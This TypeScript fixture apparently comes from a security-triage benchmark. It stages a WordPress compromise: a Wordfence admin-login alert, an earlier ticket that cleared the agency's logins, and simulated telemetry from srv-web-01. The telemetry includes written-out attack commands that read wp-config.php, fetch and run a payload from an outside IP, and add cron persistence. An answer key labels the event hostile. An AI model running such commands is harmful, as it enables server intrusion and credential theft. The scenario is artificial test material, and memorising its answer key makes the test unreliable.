// The web agency's account was cleared before; this time a plugin of it gives commands to the server.
import { alert, connected, hostile, ran, situation, ticket, wrote } from '../../shorthand.ts'

export const agencyLoginThenANewPlugin = situation(
  'agency-login-then-a-new-plugin',
  'carry-over',
  'The web agency signs in and adds a plugin',
  (setting) => {
    const server = setting.machine('srv-web-01')
    const amelie = setting.person('amelie.roux')
    const at = setting.ago({ minutes: 52 })
    const before = setting.ago({ days: 17, hours: 5 })
    const agency = '85.224.77.130'
    const ip = '103.75.119.42'
    const folder = '/var/www/news/wp-content/plugins/wp-object-cache-helper'
    const file = setting.file('wp-object-cache-helper.php')
    const stage = `curl -fsSL http://${ip}:8000/u -o /dev/shm/.u`
    const shell = {
      AccountName: 'www-data',
      InitiatingProcessFileName: 'php-fpm8.2',
      InitiatingProcessAccountName: 'www-data',
    }
    const child = { AccountName: 'www-data', InitiatingProcessFileName: 'sh' }
    const stamp = (time: number) => setting.iso(time).slice(0, 19).replace('T', ' ')
    return {
      alerts: [
        alert(
          setting,
          at,
          'wordfence',
          '[Wordfence Alert] news.havskoginstruments.com Admin Login',
          `From: WordPress <wordpress@news.havskoginstruments.com>
To: it-alerts@havskoginstruments.com
Date: ${new Date(at).toUTCString()}
Subject: [Wordfence Alert] news.havskoginstruments.com Admin Login
Message-ID: <${setting.seeded.hex('wordfence message', 24)}@news.havskoginstruments.com>
X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)
Content-Type: text/plain; charset=UTF-8

This email was sent from your website "Havskog News" by the Wordfence plugin.

Wordfence found the following new issues on "Havskog News" (1 existing issue was also found again).

Alert generated at ${stamp(at)} UTC
See the details of these scan results on your site at: https://news.havskoginstruments.com/wp-admin/admin.php?page=WordfenceScan

A user with username "nordform" who has administrator access signed in to your WordPress site.
User IP: ${ip}
User hostname: ${ip}
User location: Unknown, Hong Kong
User agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
Two-factor: not enabled for this user
Login limits: 0 failed attempts before this login (last 4 hours)

------------------------------------------------------------
Activity since last report
------------------------------------------------------------
* Plugin uploaded and activated: "WP Object Cache Helper" version 1.0.2 by user nordform
  (not found in the WordPress.org repository; Wordfence can not compare it with an original)
* Files added in wp-content/plugins: 2
    wp-object-cache-helper/wp-object-cache-helper.php   9.1 KB   ${stamp(at + 3 * 60_000)}
    wp-object-cache-helper/readme.txt                   1.2 KB   ${stamp(at + 3 * 60_000)}
* Core files modified: 0
* Users added: 0

------------------------------------------------------------
Low Severity Problems:
* The Plugin "Yoast SEO" needs an upgrade (24.1 -> 24.4).
    https://wordpress.org/plugins/wordpress-seo/#developers
* The Theme "Twenty Twenty-Four" needs an upgrade (1.2 -> 1.3).
* 3 old revisions of posts were ignored.

------------------------------------------------------------
Firewall summary for the last 24 hours
   Blocked by blocklist ...............  41
   Complex attacks blocked ............   6   (top: Directory traversal 4, XSS 2)
   Brute force attempts blocked .......  118
   Top country ........................  United States (62)
   Rules version ......................  ${setting.iso(at - 86_400_000).slice(0, 10)} (Wordfence Free, rules delayed by 30 days)

Site: https://news.havskoginstruments.com   Server: ${server.host} (${server.ip})   PHP 8.2.26   WordPress 6.7.1   Wordfence 8.0.3
Licence: free   API key: ...c71e   Scan engine: standard   Next scan: ${stamp(at + 20 * 3_600_000)}

NOTE: You are using the free version of Wordfence. Upgrade today:
- Receive real-time Firewall and Scan engine rule updates for protection as threats emerge
- Real-time IP Blocklist blocks the most malicious IPs from accessing your site
https://www.wordfence.com/zz1/wordfence-signup/

To change your alert options: https://news.havskoginstruments.com/wp-admin/admin.php?page=WordfenceOptions
To stop alerts of this type, untick "Alert me when someone with administrator access signs in".`,
        ),
      ],
      facts: {
        investigations: [
          ticket(
            setting,
            'Wordfence: administrator nordform signed in',
            before,
            'BENIGN',
            [{ machine: server }, { ip: agency }, { person: amelie }],
            `Nordform is the agency that keeps our news pages, ordered by Amelie Roux. They come from their office ${agency}. Expected.`,
          ),
        ],
        telemetry: [
          wrote(server, at + 3 * 60_000, 'wp-object-cache-helper.php', folder, file, {
            InitiatingProcessFileName: 'php-fpm8.2',
            InitiatingProcessAccountName: 'www-data',
          }),
          ran(server, at + 5 * 60_000, 'sh', "sh -c 'id; uname -a; cat /var/www/news/wp-config.php'", shell),
          ran(server, at + 7 * 60_000, 'sh', `sh -c '${stage}; chmod +x /dev/shm/.u; /dev/shm/.u -d'`, shell),
          ran(server, at + 7 * 60_000 + 500, 'curl', stage, child),
          connected(server, at + 7 * 60_000 + 900, ip, {
            RemotePort: 8000,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessCommandLine: stage,
            InitiatingProcessAccountName: 'www-data',
          }),
          ran(server, at + 7 * 60_000 + 4000, '.u', '/dev/shm/.u -d', {
            ...child,
            FolderPath: '/dev/shm',
            SHA256: setting.seeded.hex('sha256 web stage', 64),
          }),
          connected(server, at + 8 * 60_000, ip, {
            RemotePort: 4433,
            InitiatingProcessFileName: '.u',
            InitiatingProcessAccountName: 'www-data',
          }),
          ran(
            server,
            at + 9 * 60_000,
            'crontab',
            'sh -c (crontab -l; echo "*/10 * * * * /dev/shm/.u -d") | crontab -',
            child,
          ),
        ],
      },
      expected: { ...hostile(server.host), severities: ['high', 'critical'] },
      because:
        'The cleared logins came from the office of the agency. This one came from elsewhere, added a plugin nobody knows, and through it the web server read the database password, fetched and started a program from the same address and keeps it alive with cron.',
    }
  },
)
